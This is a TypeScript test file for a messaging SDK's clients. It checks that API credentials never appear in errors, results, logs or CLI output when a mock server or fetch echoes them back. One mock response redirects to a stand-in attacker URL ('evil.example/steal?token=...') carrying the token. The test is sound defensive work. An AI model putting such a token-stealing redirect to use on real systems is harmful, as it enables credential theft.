/**
 * No credential of any kind, for any client, appears in anything Switchboard throws, returns or logs, even when
 * the server (or a proxy, or the caller's fetch) echoes it back: in a body (as a value or as a key), a header, a
 * redirect's Location, an unparseable body, an error's message, cause or stack. Scanned: every error's
 * JSON.stringify, util.inspect (hidden fields, whole depth), stack and cause chain; batch results; logger entries;
 * the CLI's result lines.
 */
import { inspect } from 'node:util';
import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sendAll } from '../../src/cli/send.ts';
import { CmClient } from '../../src/cm/index.ts';
import { ComapiClient } from '../../src/comapi/index.ts';
import type { LogEntry } from '../../src/core/http/transport.ts';
import { WebexClient } from '../../src/webex/index.ts';
import { API_SPACE } from '../helpers.ts';
import { json, startLoopbackServer, type LoopbackServer, type RecordedRequest } from '../support/loopback-server.ts';

const CM_TOKEN = '1b4f0e98-5a3c-4c1e-9a9f-2d6b8c7e1f00';
const COMAPI_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZWNyZXQtY29tYXBpIn0.c2VjcmV0LXNpZ25hdHVyZQ';
const WEBEX_KEY = 'wx-service-key-9f8e7d6c';
const WEBEX_JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJzZWNyZXQtd2ViZXgifQ.d2VieGV4LXNpZ25hdHVyZQ';
const WEBEX_SECRET = 'c3VwZXItc2VjcmV0LXNlcnZpY2Utc2VjcmV0';

let server: LoopbackServer;
/** Credentials the server saw (a minted JWT is known only from the request that carried it). */
const seenTokens = new Set<string>();

beforeAll(async () => {
  server = await startLoopbackServer();
});
afterAll(() => server.close());

/** Everything in a request that could be a credential: the auth headers and the body. */
function credentialsIn(request: RecordedRequest): string[] {
  const found = [
    request.headers['x-cm-producttoken'],
    request.headers.key,
    request.headers.authorization?.replace(/^Bearer /, ''),
  ].filter((value): value is string => typeof value === 'string');
  for (const value of found) seenTokens.add(value);
  return [...found, request.body];
}

type Echo = (request: RecordedRequest, res: ServerResponse) => void;

const ECHOES: Array<[string, Echo]> = [
  [
    'a 400 echoing the request as values and as keys',
    (request, res) => {
      const echoed = credentialsIn(request);
      json(res, 400, {
        message: `bad: ${echoed.join(' | ')}`,
        details: echoed.join(' '),
        code: '7004',
        errorCode: 999,
        messages: [],
        echo: Object.fromEntries(echoed.map((value) => [value, value])),
      });
    },
  ],
  [
    'a 500 echoing it in headers',
    (request, res) => {
      const [first = ''] = credentialsIn(request);
      json(res, 500, {}, { 'x-echo': first, 'www-authenticate': `Bearer realm="${first}"` });
    },
  ],
  [
    'a 307 whose Location carries it',
    (request, res) => {
      const [first = ''] = credentialsIn(request);
      res.writeHead(307, { location: `https://evil.example/steal?token=${encodeURIComponent(first)}&raw=${first}` });
      res.end();
    },
  ],
  [
    'a 200 that is not JSON and quotes it',
    (request, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<html>${credentialsIn(request).join('<br>')}</html>`);
    },
  ],
  [
    'a 200 with valid JSON quoting it where the spec does not expect it',
    (request, res) => json(res, 200, { unexpected: credentialsIn(request) }),
  ],
  [
    'a 429 quoting it, then the same again (retried)',
    (request, res) => json(res, 429, { message: credentialsIn(request).join(',') }, { 'retry-after': '0' }),
  ],
];

/** A fetch that fails quoting the request's credentials in its message, its cause and its stack. */
const leakyFetch = async (request: Request) => {
  const echoed = [
    request.headers.get('x-cm-producttoken'),
    request.headers.get('key'),
    request.headers.get('authorization'),
    await request.text(),
  ].join(' ');
  throw new TypeError(`fetch failed for ${echoed}`, {
    cause: Object.assign(new Error(`socket said ${echoed}`), { code: 'ECONNRESET' }),
  });
};

function clients(extra: object) {
  const base = { baseUrl: server.url, maxRetries: 1, maxRetryDelayMs: 0, ...extra };
  return [
    ['CM (header)', new CmClient({ productToken: CM_TOKEN, ...base })],
    ['CM (body)', new CmClient({ productToken: CM_TOKEN, tokenIn: 'body', ...base })],
    ['Comapi', new ComapiClient({ apiSpaceId: API_SPACE, token: COMAPI_TOKEN, ...base })],
    ['Webex (key)', new WebexClient({ serviceKey: WEBEX_KEY, ...base })],
    ['Webex (jwt)', new WebexClient({ jwt: WEBEX_JWT, ...base })],
    ['Webex (minted)', new WebexClient({ serviceId: 'svc-1', serviceSecret: WEBEX_SECRET, ...base })],
  ] as const;
}

/** Every call kind of a client: a send, a batch, a read. */
async function everything(client: CmClient | ComapiClient | WebexClient): Promise<unknown[]> {
  const settle = (promise: Promise<unknown>) =>
    promise.then(
      (value) => value,
      (error: unknown) => error,
    );
  if (client instanceof CmClient) {
    return [
      await settle(client.messages.send({ from: 'Acme', to: '+447911123456', body: 'x' })),
      await settle(client.messages.sendBatch([{ from: 'Acme', to: '+447911123456', body: 'x' }])),
    ];
  }
  if (client instanceof ComapiClient) {
    const message = { to: { phoneNumber: '447911123456' }, body: 'x', rules: ['sms'] };
    return [
      await settle(client.messages.send(message)),
      await settle(client.messages.sendBatch([message])),
      await settle(client.profiles.get('p1')),
    ];
  }
  return [
    await settle(client.sms.send({ from: 'Acme', to: '+447911123456', content: 'x' })),
    await settle(client.sms.broadcast(['+447911123456'], { from: 'Acme', content: { type: 'text', text: 'x' } })),
    await settle(client.sms.get('w-1')),
  ];
}

/** Every way an error or result can be read back: serialized, inspected, its stack and its causes. */
function renderings(value: unknown): string[] {
  const out = [JSON.stringify(value) ?? '', inspect(value, { depth: null, showHidden: true, getters: false })];
  const queue: unknown[] = [value];
  for (let i = 0; i < queue.length && i < 200; i += 1) {
    const item = queue[i];
    if (item instanceof Error) {
      out.push(String(item), item.stack ?? '', item.message);
      if (item.cause !== undefined) queue.push(item.cause);
    }
    if (item !== null && typeof item === 'object') for (const nested of Object.values(item)) queue.push(nested);
  }
  return out;
}

function secrets(): string[] {
  return [CM_TOKEN, COMAPI_TOKEN, WEBEX_KEY, WEBEX_JWT, WEBEX_SECRET, ...seenTokens].filter((s) => s.length > 8);
}

function expectNoSecret(label: string, values: unknown[]): void {
  const text = values.flatMap(renderings).join('\n');
  for (const secret of secrets())
    expect(text.includes(secret), `${label} leaks a credential (${secret.slice(0, 6)}…)`).toBe(false);
}

describe('no credential in anything thrown, returned or logged', () => {
  it.each(ECHOES)('%s', async (_name, echo) => {
    server.handle(echo);
    const logged: LogEntry[] = [];
    for (const [label, client] of clients({ logger: (entry: LogEntry) => logged.push(entry) })) {
      const outcomes = await everything(client);
      expectNoSecret(label, outcomes);
    }
    expect(seenTokens.size).toBeGreaterThanOrEqual(4);
    expectNoSecret('the logger', logged);
  });

  it("a caller's fetch that quotes the credentials in its error, cause and stack", async () => {
    for (const [label, client] of clients({ fetch: leakyFetch })) expectNoSecret(label, await everything(client));
  });

  it('the CLI result lines', async () => {
    server.handle(ECHOES[0]![1]);
    const env = {
      CM_PRODUCT_TOKEN: CM_TOKEN,
      COMAPI_API_SPACE_ID: API_SPACE,
      COMAPI_TOKEN,
      WEBEX_SERVICE_KEY: WEBEX_KEY,
    };
    const lines = [
      ...(await sendAll('cm', [{ from: 'Acme', to: '+447911123456', body: 'x' }], env, server.url, () => {})),
      ...(await sendAll(
        'comapi',
        [{ to: { phoneNumber: '447911123456' }, body: 'x', rules: ['sms'] }],
        env,
        server.url,
        () => {},
      )),
      ...(await sendAll('webex', [{ from: 'Acme', to: '+447911123456', content: 'x' }], env, server.url, () => {})),
    ];
    expect(lines.every((line) => !line.ok)).toBe(true);
    expectNoSecret('the CLI', lines);
  });
});
